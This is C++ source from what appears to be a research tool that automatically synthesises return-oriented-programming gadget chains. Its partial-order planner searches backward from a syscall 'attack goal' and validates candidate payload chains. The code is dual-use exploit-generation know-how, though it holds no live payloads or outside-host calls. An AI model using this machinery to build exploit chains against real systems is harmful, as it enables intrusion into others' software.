      ++stats_.concretize_calls;
      payload::ConcretizeStats local_cs;
      payload::ConcretizeOptions copts = opts.concretize;
      if (!copts.stats) copts.stats = &local_cs;
      if (!copts.governor) copts.governor = opts.governor;
      auto chain = payload::concretize(ctx_, lib_, img_, seq, goal, copts);
      if (!chain && opts.debug_conc &&
          stats_.concretize_calls <= 3) {
        fprintf(stderr, "--- failed sequence (%zu gadgets) ---\n", seq.size());
        for (const u32 gi : seq) {
          const Record& g = lib_[gi];
          fprintf(stderr, "g[%u] addr=%llx end=%s n=%d\n", gi,
                  (unsigned long long)g.addr, end_kind_name(g.end), g.n_insts);
          for (const auto& ps : g.path)
            fprintf(stderr, "    %s\n", x86::to_string(ps.inst).c_str());
        }
      }
      if (chain) {
        ++stats_.validated;
        chains.push_back(std::move(*chain));
      } else {
        for (const u32 gi : seq) ++failure_count_[gi];
        // When a provider's composed value was a flat-out wrong constant,
        // demote that provider hard: it can never serve this goal.
        const x86::Reg bad = copts.stats->last_mismatch_reg;
        if (bad != Reg::NONE) {
          for (const Step& s : best.alpha)
            if (s.provides == bad && s.consumer < 0)
              failure_count_[s.gadget] += 200;
        }
      }
      continue;
    }

    for (Plan& np : expand(best, opts)) {
      // Dedupe structurally identical plans (same gadgets, orderings and
      // open goals) that different expansion orders keep regenerating.
      // (per-round scope; rounds re-explore with rotated rankings)
      // Order-independent fingerprint: the same gadget/role multiset found
      // through different expansion orders is the same plan for our
      // purposes (it linearizes to the same sequences).
      u64 h = 0x9e3779b97f4a7c15ULL + np.terminal;
      auto mix = [&h](u64 v) { h ^= v * 0x2545f4914f6cdd1dULL; };
      for (const Step& s : np.alpha) {
        const u64 consumer_gadget =
            s.consumer < 0 ? ~u64{0} : np.alpha[s.consumer].gadget;
        mix((static_cast<u64>(s.gadget) << 24) ^
            (static_cast<u64>(s.provides) << 16) ^ consumer_gadget);
      }
      for (const auto& [r, c] : np.delta) {
        const u64 consumer_gadget = c < 0 ? ~u64{0} : np.alpha[c].gadget;
        mix(0xd00d ^ (static_cast<u64>(r) << 32) ^ consumer_gadget);
      }
      if (!visited_plans.insert(h).second) continue;
      queue.push(std::move(np));
    }
  }
  } catch (const ResourceExhausted& e) {
    // The expr-node budget ran out mid-expansion: end the round with the
    // chains found so far rather than letting the exception escape plan().
    ++stats_.deadline_cuts;
    stats_.status.merge(e.status());
  }
}

}  // namespace gp::planner
