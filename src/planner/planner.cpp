#include "planner/planner.hpp"

#include <algorithm>
#include <chrono>

#include "support/rng.hpp"
#include <cstdlib>
#include <cstdio>
#include <queue>
#include <set>

#include "store/store.hpp"
#include "support/trace.hpp"

namespace gp::planner {

using gadget::EndKind;
using gadget::Record;
using gadget::reg_bit;
using payload::Chain;
using payload::Goal;
using solver::ExprRef;
using x86::Reg;

namespace {
double secs_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
      .count();
}
}  // namespace

void Options::append_key(serial::Writer& w) const {
  w.put_u32(kPlannerVersion);
  w.put_u32(static_cast<u32>(max_expansions));
  w.put_u32(static_cast<u32>(max_chains));
  w.put_u32(static_cast<u32>(max_candidates_per_goal));
  w.put_u32(static_cast<u32>(max_plan_gadgets));
  w.put_u32(static_cast<u32>(max_open_goals));
  w.put_u32(static_cast<u32>(max_concretize_failures));
  w.put_u32(static_cast<u32>(restarts));
  w.put_u64(concretize.stack_base);
  w.put_u64(concretize.max_payload);
  w.put_u32(static_cast<u32>(concretize.validation_trials));
  w.put_bool(use_cond_gadgets);
  w.put_bool(use_indirect_gadgets);
  w.put_bool(use_direct_merged);
}

bool Planner::admissible(const Record& g, const Options& opts) const {
  return planner::admissible(
      g, {opts.use_cond_gadgets, opts.use_indirect_gadgets,
          opts.use_direct_merged});
}

bool Planner::goal_const_match(Reg reg, u64 value) const {
  if (!goal_) return false;
  for (const payload::RegTarget& t : goal_->regs)
    if (t.reg == reg && t.kind == payload::RegTarget::Kind::Const &&
        t.value == value)
      return true;
  return false;
}

std::optional<std::vector<int>> Planner::linearize(const Plan& p) {
  const int n = static_cast<int>(p.alpha.size());
  std::vector<std::vector<int>> succ(n);
  std::vector<int> indeg(n, 0);
  std::set<std::pair<int, int>> seen;
  for (const auto& [before, after] : p.beta) {
    if (before == after) return std::nullopt;
    if (!seen.insert({before, after}).second) continue;
    succ[before].push_back(after);
    ++indeg[after];
  }
  // Kahn; ties broken by insertion order (older steps first) to keep
  // producer-before-consumer chains stable.
  std::vector<int> order;
  std::vector<int> ready;
  for (int i = 0; i < n; ++i)
    if (indeg[i] == 0) ready.push_back(i);
  while (!ready.empty()) {
    const int i = *std::min_element(ready.begin(), ready.end());
    ready.erase(std::find(ready.begin(), ready.end(), i));
    order.push_back(i);
    for (const int j : succ[i])
      if (--indeg[j] == 0) ready.push_back(j);
  }
  if (static_cast<int>(order.size()) != n) return std::nullopt;  // cycle
  return order;
}

bool Planner::reg_usable(Reg reg, const Options& opts) {
  auto it = usable_memo_.find(static_cast<int>(reg));
  if (it != usable_memo_.end()) return it->second;
  bool usable = false;
  if (index_) {
    for (const Candidate& c : index_->candidates(reg)) {
      if (!admissible(lib_[c.gadget], opts)) continue;
      if (c.position_filtered()) continue;
      if ((c.flags & Candidate::kConstValue) &&
          !goal_const_match(reg, c.const_value))
        continue;
      usable = true;
      break;
    }
  } else {
    for (const u32 gi : lib_.controlling(reg)) {
      const Record& g = lib_[gi];
      if (!admissible(g, opts)) continue;
      if (g.end == EndKind::Syscall) continue;
      if (!g.stack_delta && g.end == EndKind::Ret &&
          !g.can_set(x86::Reg::RSP))
        continue;
      if (g.next_rip != solver::kNoExpr && ctx_.is_const(g.next_rip))
        continue;
      const ExprRef fin = g.final_regs[static_cast<int>(reg)];
      if (ctx_.is_const(fin) && !goal_const_match(reg, ctx_.const_val(fin)))
        continue;
      usable = true;
      break;
    }
  }
  usable_memo_.emplace(static_cast<int>(reg), usable);
  return usable;
}

std::vector<Planner::Plan> Planner::expand(const Plan& p,
                                           const Options& opts) {
  std::vector<Plan> out;
  if (p.delta.empty() ||
      static_cast<int>(p.alpha.size()) >= opts.max_plan_gadgets)
    return out;

  // Paper: pick an open pre-condition, find gadgets that can fulfil it.
  const auto [reg, consumer] = p.delta.back();

  // Candidate profiles: served from the prescored index when built, else
  // analyzed here per expansion (the linear reference path). Both sides
  // are the same analyze_candidate(), over the same lib_.controlling(reg)
  // order, so ranking ties and the rotation shuffle permute identically —
  // the two modes are bit-for-bit equivalent.
  std::vector<Candidate> scratch;
  std::span<const Candidate> cands;
  if (index_) {
    cands = index_->candidates(reg);
    ++stats_.index_hits;
  } else {
    const auto& controlling = lib_.controlling(reg);
    scratch.reserve(controlling.size());
    for (const u32 gi : controlling)
      scratch.push_back(analyze_candidate(ctx_, lib_, gi, reg));
    cands = scratch;
  }

  // Rank candidates: fewest register dependencies first (a self-dependent
  // setter like `add rax, rcx; ret` technically "sets" rax but re-opens the
  // same goal — lowest priority), then shortest. The failure_cost term is
  // per-goal search state, so it stays out of the precomputed base score.
  struct Scored {
    const Candidate* c;
    int score;
  };
  std::vector<Scored> ranked;
  ranked.reserve(cands.size());
  for (const Candidate& c : cands) {
    const auto fc = failure_count_.find(c.gadget);
    const int failure_cost =
        fc == failure_count_.end() ? 0 : 12 * fc->second;
    ranked.push_back({&c, c.base_score + failure_cost});
  }
  std::stable_sort(ranked.begin(), ranked.end(),
                   [](const Scored& a, const Scored& b) {
                     return a.score < b.score;
                   });
  // Restart diversification: round 0 takes the ranking as-is; later rounds
  // shuffle the top tier with a per-round seed so different provider
  // combinations get tried.
  if (rotation_ > 0 && ranked.size() > 1) {
    // Shuffle only the reasonable tier: candidates whose score is within
    // the self-loop/pointer-conflict penalty band stay put at the bottom.
    size_t tier = 0;
    while (tier < ranked.size() && tier < 16 && ranked[tier].score < 1000)
      ++tier;
    if (tier > 1) {
      Rng rng(0x1234 + 7919u * static_cast<u64>(rotation_) +
              static_cast<u64>(reg));
      for (size_t i = tier - 1; i > 0; --i)
        std::swap(ranked[i], ranked[rng.below(i + 1)]);
    }
  }

  int taken = 0;
  int f_adm = 0, f_sys = 0, f_sd = 0, f_const = 0, f_goalc = 0, f_dead = 0;
  for (const auto& [cp, score] : ranked) {
    if (taken >= opts.max_candidates_per_goal) break;
    const Candidate& c = *cp;
    const u32 gi = c.gadget;
    const Record& g = lib_[gi];
    if (!admissible(g, opts)) { ++f_adm; continue; }
    // A chain's inner gadget must transfer control onward to a place the
    // payload can choose; a constant target (resolved jump table) would
    // force a specific successor address.
    if (c.flags & Candidate::kSyscallEnd) { ++f_sys; continue; }
    // Ret gadgets whose stack delta is symbolic are still usable when the
    // final rsp is attacker-aimable (a stack pivot, e.g. lea rsp,[rbp-K]
    // with a popped rbp); the composition solver aims the pivot into the
    // payload.
    if (c.flags & Candidate::kStackBad) { ++f_sd; continue; }
    if (c.flags & Candidate::kNextRipConst) { ++f_const; continue; }
    // A constant-valued setter cannot be steered; it only ever serves a
    // terminal goal whose target is that exact constant.
    if ((c.flags & Candidate::kConstValue) &&
        !(consumer < 0 && goal_const_match(reg, c.const_value))) {
      ++f_goalc;
      continue;
    }

    Plan base = p;
    base.delta.pop_back();
    const int self = static_cast<int>(base.alpha.size());
    base.alpha.push_back({gi, reg, consumer});
    base.n_constraints +=
        static_cast<int>(g.precond.size()) + static_cast<int>(c.dag_size);

    // Causal ordering: this step before its consumer.
    if (consumer >= 0) base.beta.push_back({self, consumer});

    // Open pre-conditions of the new gadget: every initial register its
    // path condition, indirect transfer target, or provided-value
    // expression depends on (precomputed, in first-encounter order) must
    // be put under control by some earlier gadget (register-transfer
    // chaining).
    if (c.flags & Candidate::kNeedsTruncated) ++stats_.needs_truncated;
    bool needs_unmet = false;
    for (u8 ni = 0; ni < c.n_needs; ++ni) {
      const Reg rr = static_cast<Reg>(c.needs[ni]);
      if (!reg_usable(rr, opts)) {
        // Unsatisfiable dependency: this candidate is a dead end.
        needs_unmet = true;
      } else {
        base.delta.push_back({rr, self});
      }
    }

    if (needs_unmet) {
      ++stats_.dead_ends;
      continue;
    }
    // Threat analysis (epsilon). A causal link (P provides r to C) is
    // threatened by any other step B that clobbers r; the resolution is
    // demotion (B before P) or promotion (C before B). Consumers of -1
    // (the terminal syscall) admit only demotion — nothing runs after it.
    struct Threat {
      int clobberer, producer, consumer;
    };
    std::vector<Threat> threats;
    auto link_of = [&](int step) {
      return std::tuple<Reg, int>(base.alpha[step].provides,
                                  base.alpha[step].consumer);
    };
    for (int b = 0; b < static_cast<int>(base.alpha.size()); ++b) {
      const Record& bg = lib_[base.alpha[b].gadget];
      for (int pstep = 0; pstep < static_cast<int>(base.alpha.size());
           ++pstep) {
        if (pstep == b) continue;
        // Only threats involving the new step are new; older pairs were
        // resolved in the parent plan.
        if (b != self && pstep != self) continue;
        const auto [r, cons] = link_of(pstep);
        if (r == Reg::NONE || !bg.clobbers(r)) continue;
        if (cons == b) continue;  // consumer may clobber after consuming
        // A clobber is only a threat when the clobbering value cannot be
        // steered: if B writes a payload-controllable (non-constant) value
        // into r, the composition solver simply picks the value the
        // consumer needs, and B acts as the new producer.
        const ExprRef rv = bg.final_regs[static_cast<int>(r)];
        if (bg.can_set(r) && !ctx_.is_const(rv)) continue;
        threats.push_back({b, pstep, cons});
      }
    }

    // Enumerate resolution combinations (bounded; plans are small).
    std::vector<std::vector<std::pair<int, int>>> resolutions{{}};
    for (const Threat& t : threats) {
      std::vector<std::vector<std::pair<int, int>>> next;
      for (const auto& partial : resolutions) {
        auto demoted = partial;
        demoted.push_back({t.clobberer, t.producer});
        next.push_back(std::move(demoted));
        if (t.consumer >= 0) {
          auto promoted = partial;
          promoted.push_back({t.consumer, t.clobberer});
          next.push_back(std::move(promoted));
        }
      }
      resolutions = std::move(next);
      if (resolutions.size() > 4) resolutions.resize(4);
    }
    // Keep only the first acyclic resolution: beta variants almost always
    // linearize to the same gadget sequence, and the restart rounds provide
    // better diversity than threat-ordering permutations.
    {
      std::vector<std::vector<std::pair<int, int>>> pruned;
      for (const auto& extra : resolutions) {
        Plan probe = base;
        for (const auto& e : extra) probe.beta.push_back(e);
        if (linearize(probe)) {
          pruned.push_back(extra);
          break;
        }
      }
      resolutions = std::move(pruned);
    }

    if (static_cast<int>(base.delta.size()) > opts.max_open_goals) {
      ++stats_.dead_ends;
      continue;
    }
    // A plan at the gadget cap with goals still open can never complete.
    if (!base.delta.empty() &&
        static_cast<int>(base.alpha.size()) >= opts.max_plan_gadgets) {
      ++stats_.dead_ends;
      continue;
    }
    bool produced = false;
    for (const auto& extra : resolutions) {
      Plan np = base;
      for (const auto& e : extra) np.beta.push_back(e);
      if (!linearize(np)) continue;
      out.push_back(std::move(np));
      produced = true;
      if (out.size() > 64) break;  // successor cap per expansion
    }
    if (!produced) {
      ++f_dead;
      if (opts.debug_plan && f_dead <= 2) {
        fprintf(stderr, "    dead cand g[%u] threats=%zu beta=%zu:", gi,
                threats.size(), base.beta.size());
        for (auto& t : threats)
          fprintf(stderr, " (B%d,P%d,C%d)", t.clobberer, t.producer,
                  t.consumer);
        fprintf(stderr, " | beta:");
        for (auto& [x, y] : base.beta) fprintf(stderr, " %d<%d", x, y);
        fprintf(stderr, "\n");
      }
      ++stats_.dead_ends;
      continue;
    }
    ++taken;
    ++stats_.successors;
  }
  if (out.empty()) ++stats_.dead_ends;
  if (out.empty() && opts.debug_plan) {
    fprintf(stderr,
            "  expand(%s/%d): ranked=%zu taken=%d adm=%d sys=%d sd=%d "
            "const=%d goalc=%d dead=%d\n",
            x86::reg_name(reg), consumer, ranked.size(), taken, f_adm, f_sys,
            f_sd, f_const, f_goalc, f_dead);
  }
  return out;
}

void Planner::ensure_index(const Options& opts) {
  if (!opts.use_index) {
    index_.reset();
    return;
  }
  if (index_ && index_->pool_size() == lib_.size()) return;
  index_.reset();
  try {
    trace::Span span("plan.index", "planner", opts.session_id);
    std::string key;
    if (opts.memo_store && opts.pool_digest != 0) {
      serial::Writer material;
      material.put_u64(opts.pool_digest);
      material.put_u32(kIndexFormatVersion);
      key = opts.memo_store->key("planidx", material);
      if (auto art = opts.memo_store->get(key)) {
        if (auto idx = GadgetIndex::decode(art->records, lib_.size())) {
          index_ = std::move(*idx);
          ++stats_.index_loads;
          return;
        }
      }
    }
    index_ = GadgetIndex::build(ctx_, lib_);
    ++stats_.index_builds;
    // The index is a pure function of pool content; a failed put only
    // costs the next run a rebuild.
    if (!key.empty()) (void)opts.memo_store->put(key, index_->encode());
  } catch (const ResourceExhausted&) {
    // Budget died mid-build: fall back to the per-expansion linear path,
    // which produces identical results. Not a degradation of output, so
    // the status stays untouched.
    index_.reset();
  }
}

bool Planner::precheck_unreachable(const Goal& goal, const Options& opts) {
  if (!index_) return false;
  const auto t0 = std::chrono::steady_clock::now();
  trace::Span span("plan.precheck", "planner", opts.session_id);
  const AdmissionFlags flags{opts.use_cond_gadgets, opts.use_indirect_gadgets,
                             opts.use_direct_merged};
  bool unreachable = index_->goal_unreachable(lib_, goal, flags);
  if (!unreachable) {
    // Terminal feasibility: some admissible syscall gadget must be able to
    // seed a plan (mirrors run_round's seeding filter — a gadget that
    // forces a goal register to the wrong constant cannot terminate any
    // chain).
    bool any_feasible = false;
    for (const u32 si : lib_.syscalls()) {
      const Record& s = lib_[si];
      if (!admissible(s, opts)) continue;
      bool feasible = true;
      for (const payload::RegTarget& t : goal.regs) {
        const ExprRef fin = s.final_regs[static_cast<int>(t.reg)];
        if (s.clobbers(t.reg)) {
          if (!s.can_set(t.reg)) feasible = false;
          if (ctx_.is_const(fin) &&
              !(t.kind == payload::RegTarget::Kind::Const &&
                ctx_.const_val(fin) == t.value))
            feasible = false;
        }
      }
      if (feasible) {
        any_feasible = true;
        break;
      }
    }
    unreachable = !any_feasible;
  }
  stats_.precheck_seconds = secs_since(t0);
  if (unreachable) ++stats_.unreachable_goals;
  return unreachable;
}

std::string Planner::nogood_key(const Options& opts, const Goal& goal) const {
  if (!opts.use_nogoods || !opts.memo_store || opts.pool_digest == 0)
    return {};
  serial::Writer material;
  material.put_u64(opts.pool_digest);
  material.put_u32(kIndexFormatVersion);
  opts.append_key(material);
  // Goal content, not just the name: nogoods are per search problem.
  material.put_str(goal.name);
  material.put_u64(goal.syscall_no);
  material.put_u32(static_cast<u32>(goal.regs.size()));
  for (const payload::RegTarget& t : goal.regs) {
    material.put_u8(static_cast<u8>(t.reg));
    material.put_u8(static_cast<u8>(t.kind));
    material.put_u64(t.value);
    material.put_bytes(t.bytes);
  }
  return opts.memo_store->key("plannogood", material);
}

std::vector<Chain> Planner::plan(const Goal& goal, const Options& opts) {
  goal_ = &goal;
  // Explicit per-call windows: one goal's stats, concretization failures
  // and usability memo must not leak into the next goal's search on a
  // reused planner.
  usable_memo_.clear();
  failure_count_.clear();
  nogoods_.clear();
  stats_ = Stats{};
  std::vector<Chain> chains;

  ensure_index(opts);
  if (precheck_unreachable(goal, opts)) return chains;
  // Fail fast: if any goal register has no statically usable provider at
  // all, no plan can ever complete. (Strictly weaker than the precheck's
  // producer closure; it is what the linear path relies on.)
  for (const payload::RegTarget& t : goal.regs)
    if (!reg_usable(t.reg, opts)) return chains;

  const std::string nkey = nogood_key(opts, goal);
  if (!nkey.empty())
    if (auto art = opts.memo_store->get(nkey))
      nogoods_.merge_decode(art->records);

  std::set<std::vector<u32>> seen_sequences;
  // The round deadline is the tighter of the local time budget and the
  // governor's global deadline; either one expiring (or a cancellation)
  // stops the search at the next queue pop with best-so-far chains.
  Deadline deadline = Deadline::after_seconds(opts.time_budget_seconds);
  if (opts.governor)
    deadline = Deadline::earlier(deadline, opts.governor->deadline());
  for (int round = 0; round < std::max(1, opts.restarts); ++round) {
    rotation_ = round;
    run_round(goal, opts, chains, seen_sequences, deadline);
    if (static_cast<int>(chains.size()) >= opts.max_chains) break;
    if (failure_budget_spent(opts)) {
      ++stats_.failure_budget_cuts;
      break;
    }
    if (deadline.expired()) break;
    if (opts.governor && opts.governor->should_stop()) break;
  }
  // Persist newly learned dead ends even for a budget-cut search: each
  // entry is sound on its own (a zero-successor state stays zero forever),
  // so a warm start never changes results, only skips re-refutation.
  if (!nkey.empty() && nogoods_.dirty())
    (void)opts.memo_store->put(nkey, nogoods_.encode());
  return chains;
}

namespace {
/// splitmix64 finalizer: full-avalanche dispersion of one contribution
/// before the multiset combine sorts and folds them.
u64 mix64(u64 v) {
  v += 0x9e3779b97f4a7c15ULL;
  v = (v ^ (v >> 30)) * 0xbf58476d1ce4e5b9ULL;
  v = (v ^ (v >> 27)) * 0x94d049bb133111ebULL;
  return v ^ (v >> 31);
}
}  // namespace

u64 Planner::visited_fingerprint(const Plan& p) const {
  // Order-independent fingerprint: the same gadget/role multiset found
  // through different expansion orders is the same plan for our purposes
  // (it linearizes to the same sequences). Combined with multiset_hash —
  // NOT an xor fold, where two identical (gadget, provides, consumer)
  // steps cancelled to zero and a plan containing both collided with one
  // containing neither.
  std::vector<u64> parts;
  parts.reserve(p.alpha.size() + p.delta.size());
  for (const Step& s : p.alpha) {
    const u64 consumer_gadget =
        s.consumer < 0 ? ~u64{0} : p.alpha[s.consumer].gadget;
    parts.push_back(mix64((static_cast<u64>(s.gadget) << 24) ^
                          (static_cast<u64>(s.provides) << 16) ^
                          consumer_gadget));
  }
  for (const auto& [r, c] : p.delta) {
    const u64 consumer_gadget = c < 0 ? ~u64{0} : p.alpha[c].gadget;
    parts.push_back(
        mix64(0xd00d ^ (static_cast<u64>(r) << 32) ^ consumer_gadget));
  }
  return multiset_hash(parts, 0x9e3779b97f4a7c15ULL + p.terminal);
}

u64 Planner::state_fingerprint(const Plan& p) const {
  // Everything a zero-successor expand() verdict can depend on: the
  // focused open goal (delta.back), the open-goal count (the
  // max_open_goals cap), the exact alpha step sequence (threat analysis,
  // consumer indices, the gadget cap) and the normalized ordering
  // constraints (linearization). Goal and options ride in the memo KEY,
  // not here; rotation and failure counts are excluded by design — they
  // permute candidate order, and emptiness is order-independent.
  serial::Writer w;
  w.put_u32(p.terminal);
  w.put_u32(static_cast<u32>(p.alpha.size()));
  for (const Step& s : p.alpha) {
    w.put_u32(s.gadget);
    w.put_u8(static_cast<u8>(s.provides));
    w.put_i64(s.consumer);
  }
  std::vector<std::pair<int, int>> beta = p.beta;
  std::sort(beta.begin(), beta.end());
  beta.erase(std::unique(beta.begin(), beta.end()), beta.end());
  w.put_u32(static_cast<u32>(beta.size()));
  for (const auto& [before, after] : beta) {
    w.put_i64(before);
    w.put_i64(after);
  }
  w.put_u32(static_cast<u32>(p.delta.size()));
  const auto& [reg, consumer] = p.delta.back();
  w.put_u8(static_cast<u8>(reg));
  w.put_i64(consumer);
  return serial::fnv1a(w.bytes());
}

void Planner::run_round(const Goal& goal, const Options& opts,
                        std::vector<Chain>& chains,
                        std::set<std::vector<u32>>& seen_sequences,
                        const Deadline& deadline) {
  std::set<u64> visited_plans;

  // Seed: one initial plan per syscall gadget (the terminal action).
  std::priority_queue<Plan> queue;
  for (const u32 si : lib_.syscalls()) {
    const Record& s = lib_[si];
    if (!admissible(s, opts)) continue;
    Plan p;
    p.terminal = si;
    bool feasible = true;
    for (const payload::RegTarget& t : goal.regs) {
      // If the syscall gadget itself forces this register, it must either
      // leave it alone (a producer will set it) or be able to establish it
      // itself (payload slots / transferred registers). A constant final
      // value is only viable when it matches the goal outright.
      const ExprRef fin = s.final_regs[static_cast<int>(t.reg)];
      if (s.clobbers(t.reg)) {
        if (!s.can_set(t.reg)) feasible = false;
        if (ctx_.is_const(fin) &&
            !(t.kind == payload::RegTarget::Kind::Const &&
              ctx_.const_val(fin) == t.value))
          feasible = false;
      }
      p.delta.push_back({t.reg, -1});
    }
    if (!feasible) {
      ++stats_.dead_ends;
      continue;
    }
    queue.push(std::move(p));
  }

  int expansions = 0;
  const int round_budget = std::max(64, opts.max_expansions /
                                             std::max(1, opts.restarts));
  try {
  while (!queue.empty() && expansions < round_budget &&
         static_cast<int>(chains.size()) < opts.max_chains) {
    // Deadline/cancellation is enforced at EVERY pop, not on a sampled
    // stride: one expansion can hide a slow concretize call, so a sampled
    // check could overshoot the budget by orders of magnitude.
    if (deadline.expired()) {
      ++stats_.deadline_cuts;
      stats_.status.merge(Status::deadline_exceeded("planner deadline"));
      break;
    }
    if (opts.governor) {
      const Status s = opts.governor->poll();
      if (!s.ok()) {
        ++stats_.deadline_cuts;
        stats_.status.merge(s);
        break;
      }
    }
    Plan best = queue.top();
    queue.pop();
    ++expansions;
    ++stats_.expansions;
    if (opts.debug_plan && expansions <= 80) {
      fprintf(stderr, "pop #%d delta=%zu alpha=%zu ncon=%d [", expansions,
              best.delta.size(), best.alpha.size(), best.n_constraints);
      for (auto& [r, c] : best.delta)
        fprintf(stderr, "%s/%d ", x86::reg_name(r), c);
      fprintf(stderr, "]\n");
    }

    if (best.delta.empty()) {
      // Complete plan: linearize and concretize.
      const auto order = linearize(best);
      if (!order) continue;
      ++stats_.linearizations;
      std::vector<u32> seq;
      // Steps feeding the terminal goal run in topological order; the
      // terminal syscall gadget is appended last.
      for (const int i : *order) seq.push_back(best.alpha[i].gadget);
      seq.push_back(best.terminal);
      if (!seen_sequences.insert(seq).second) continue;
      ++stats_.concretize_calls;
      payload::ConcretizeStats local_cs;
      payload::ConcretizeOptions copts = opts.concretize;
      if (!copts.stats) copts.stats = &local_cs;
      if (!copts.governor) copts.governor = opts.governor;
      // Caller-shared ConcretizeStats keep values from earlier calls;
      // clear the blame field so a stale mismatch from a PREVIOUS
      // concretization can never demote this sequence's providers.
      copts.stats->last_mismatch_reg = Reg::NONE;
      auto chain = payload::concretize(ctx_, lib_, img_, seq, goal, copts);
      if (!chain && opts.debug_conc &&
          stats_.concretize_calls <= 3) {
        fprintf(stderr, "--- failed sequence (%zu gadgets) ---\n", seq.size());
        for (const u32 gi : seq) {
          const Record& g = lib_[gi];
          fprintf(stderr, "g[%u] addr=%llx end=%s n=%d\n", gi,
                  (unsigned long long)g.addr, end_kind_name(g.end), g.n_insts);
          for (const auto& ps : g.path)
            fprintf(stderr, "    %s\n", x86::to_string(ps.inst).c_str());
        }
      }
      if (chain) {
        ++stats_.validated;
        chains.push_back(std::move(*chain));
      } else {
        for (const u32 gi : seq) ++failure_count_[gi];
        // When a provider's composed value was a flat-out wrong constant,
        // demote that provider hard: it can never serve this goal.
        const x86::Reg bad = copts.stats->last_mismatch_reg;
        if (bad != Reg::NONE) {
          for (const Step& s : best.alpha)
            if (s.provides == bad && s.consumer < 0)
              failure_count_[s.gadget] += 200;
        }
        // Give-up budget: a goal refuting every complete plan stops here
        // instead of enumerating more doomed sequences for the rest of
        // the expansion budget (plan() skips the remaining rounds too).
        if (failure_budget_spent(opts)) break;
      }
      continue;
    }

    // Dead-end learning: a state whose expand() provably produced zero
    // successors stays barren in every later round (candidate ROTATION
    // only permutes order, never the filter outcomes), so answer repeat
    // visits from the table. The pop above already charged the expansion,
    // exactly like the re-scan it replaces — queue evolution and budget
    // consumption are identical with learning on or off.
    u64 state_fp = 0;
    if (opts.use_nogoods) {
      state_fp = state_fingerprint(best);
      if (nogoods_.contains(state_fp)) {
        ++stats_.nogood_hits;
        ++stats_.dead_ends;
        continue;
      }
    }

    std::vector<Plan> successors = expand(best, opts);
    if (successors.empty() && opts.use_nogoods) {
      nogoods_.insert(state_fp);
      ++stats_.nogood_learned;
    }
    for (Plan& np : successors) {
      // Dedupe structurally identical plans (same gadgets, orderings and
      // open goals) that different expansion orders keep regenerating.
      // (per-round scope; rounds re-explore with rotated rankings)
      if (!visited_plans.insert(visited_fingerprint(np)).second) continue;
      queue.push(std::move(np));
    }
  }
  } catch (const ResourceExhausted& e) {
    // The expr-node budget ran out mid-expansion: end the round with the
    // chains found so far rather than letting the exception escape plan().
    ++stats_.deadline_cuts;
    stats_.status.merge(e.status());
  }
}

}  // namespace gp::planner
