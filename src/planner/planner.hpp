// Partial-order planner (paper Sec. IV-D).
//
// The planner searches backward from the attack goal over the 5-tuple plan
// state (alpha, beta, gamma, delta, epsilon):
//   alpha  selected gadget instances,
//   beta   ordering constraints "i must precede j",
//   gamma  causal links: which step establishes which register for whom,
//   delta  open pre-conditions (registers still needing a producer),
//   epsilon threatened causal links, resolved by demotion orderings (a
//           clobberer of a linked register is forced before its producer)
//           or — when no consistent order exists — plan discard.
// A greedy best-first queue is ordered by the paper's heuristics: fewest
// open pre-conditions first, then fewest accumulated symbolic constraints.
// Complete plans are linearized (topological sort of beta) and handed to
// payload::concretize, whose solver + emulator validation is the final
// arbiter; the planner keeps searching for more, diverse chains until the
// budget or max_chains is reached.
#pragma once

#include <chrono>
#include <set>
#include <unordered_map>

#include "gadget/gadget.hpp"
#include "payload/payload.hpp"
#include "support/config.hpp"
#include "support/serial.hpp"

namespace gp::planner {

struct Options {
  int max_expansions = 4000;       // plans popped from the queue
  int max_chains = 16;             // validated chains per goal
  int max_candidates_per_goal = 10;
  int max_plan_gadgets = 12;
  int max_open_goals = 7;          // discard plans whose delta grows past this
  double time_budget_seconds = 60.0;
  /// Diversification: the search restarts this many times, rotating the
  /// per-goal candidate preference each round (failed sequences stay
  /// banned across rounds).
  int restarts = 6;
  /// Shared resource governor (optional; must outlive the call). Its
  /// deadline is combined with time_budget_seconds — whichever expires
  /// first stops the search at the next queue pop — and it is handed down
  /// to concretize so solver calls inside validation are governed too.
  /// Expiry always returns the best-so-far chains, never throws.
  Governor* governor = nullptr;
  payload::ConcretizeOptions concretize;
  /// Search/concretization failure tracing to stderr. Resolved once from
  /// the gp::Config snapshot (GP_DEBUG_PLAN / GP_DEBUG_CONC) instead of a
  /// per-iteration getenv in the expansion loop.
  bool debug_plan = config().debug_plan;
  bool debug_conc = config().debug_conc;
  // Ablation switches (the paper's thesis: baselines lack these).
  bool use_cond_gadgets = true;    // CDJ/CIJ paths
  bool use_indirect_gadgets = true;
  bool use_direct_merged = true;   // gadgets spanning direct jumps

  /// Append every field that determines the planner's *output* to an
  /// artifact-store key writer. Time budget and governor are excluded on
  /// purpose: results are only checkpointed when the search ran uncut, and
  /// an uncut search is deterministic regardless of how much budget was
  /// left over.
  void append_key(serial::Writer& w) const;
};

struct Stats {
  u64 expansions = 0;
  u64 successors = 0;
  u64 dead_ends = 0;        // unresolvable threats / empty candidate sets
  u64 linearizations = 0;
  u64 concretize_calls = 0;
  u64 validated = 0;
  /// Search rounds cut short by the deadline / governor (checked at every
  /// queue pop) or by an exhausted global budget mid-expansion. The chains
  /// found before the cut are still returned.
  u64 deadline_cuts = 0;
  /// Ok for an uncut search; otherwise the first degradation reason.
  Status status;
};

class Planner {
 public:
  Planner(solver::Context& ctx, const gadget::Library& lib,
          const image::Image& img)
      : ctx_(ctx), lib_(lib), img_(img) {}

  /// Find up to opts.max_chains validated chains for the goal.
  std::vector<payload::Chain> plan(const payload::Goal& goal,
                                   const Options& opts = {});

  const Stats& stats() const { return stats_; }

 private:
  struct Step {
    u32 gadget;
    x86::Reg provides;  // register this step was chosen to establish
    int consumer;       // step index it feeds, or -1 for the terminal goal
  };
  struct Plan {
    std::vector<Step> alpha;
    std::vector<std::pair<int, int>> beta;  // (before, after)
    std::vector<std::pair<x86::Reg, int>> delta;  // open (reg, consumer)
    u32 terminal;       // syscall gadget index
    int n_constraints = 0;

    bool operator<(const Plan& o) const {  // priority: worse = later
      // Paper heuristics: fewest open pre-conditions first; among equals,
      // prefer the deeper plan (dive toward completion instead of flooding
      // the frontier), then fewer accumulated constraints.
      if (delta.size() != o.delta.size()) return delta.size() > o.delta.size();
      if (alpha.size() != o.alpha.size()) return alpha.size() < o.alpha.size();
      return n_constraints > o.n_constraints;
    }
  };

  bool admissible(const gadget::Record& g, const Options& opts) const;
  /// Is there any statically usable provider for `reg`? (memoized per
